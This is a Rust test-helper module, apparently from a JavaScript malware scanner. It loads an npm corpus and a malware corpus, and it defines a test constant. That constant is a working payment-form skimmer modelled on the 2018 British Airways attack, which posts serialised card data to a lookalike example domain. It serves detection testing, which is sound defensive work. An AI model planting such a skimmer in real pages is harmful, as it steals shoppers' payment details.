//! Test data shared by the real-code tests: the npm corpus (`scripts/js-testdata`), the
//! malware corpus (`RAMPART_DATA_DIR`) and a skimmer written for the tests.
#![allow(dead_code)] // each test file uses its own subset

use std::path::{Path, PathBuf};

/// The real-code corpus fetched by `scripts/js-testdata` (which `scripts/test` runs first).
pub fn corpus() -> PathBuf {
    let dir = std::env::var_os("RAMPART_JS_TESTDATA")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/js-testdata"));
    assert!(
        dir.join(".complete").exists(),
        "the real-code corpus is missing at {}: run scripts/js-testdata (scripts/test does)",
        dir.display()
    );
    dir
}

/// A script of the corpus, as text.
pub fn read(rel: &str) -> String {
    let path = corpus().join(rel);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Modeled on the published description of the 2018 British Airways skimmer: 22 lines appended
/// to a trusted library that serialize the payment form on click and post it to a lookalike
/// domain. Written for this test; it names a reserved example domain.
pub const SKIMMER: &str = r##"
window.onload = function () {
  jQuery("#submitButton").bind("mouseup touchend", function (a) {
    var n = {};
    jQuery("#paymentForm").serializeArray().map(function (a) {
      n[a.name] = a.value;
    });
    var e = document.getElementById("personPaying").innerHTML;
    n.person = e;
    var t = JSON.stringify(n);
    setTimeout(function () {
      jQuery.ajax({
        type: "POST",
        async: true,
        url: "https://baways-payments.example.com/gateway/app/dataprocessing/api/",
        data: t,
        dataType: "application/json"
      });
    }, 500);
  });
};
"##;

/// The malware corpus lives outside the repository (`RAMPART_DATA_DIR`, set by `.ci/run`).
pub fn data_dir() -> Option<PathBuf> {
    let dir = std::env::var_os("RAMPART_DATA_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"));
    if dir.join("js/manifest.csv").exists() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("RAMPART_REQUIRE_DATA").is_none(),
        "RAMPART_REQUIRE_DATA is set but {} has no js/manifest.csv",
        dir.display()
    );
    eprintln!(
        "no malware corpus at {}: the Magecart append test needs RAMPART_DATA_DIR",
        dir.display()
    );
    None
}
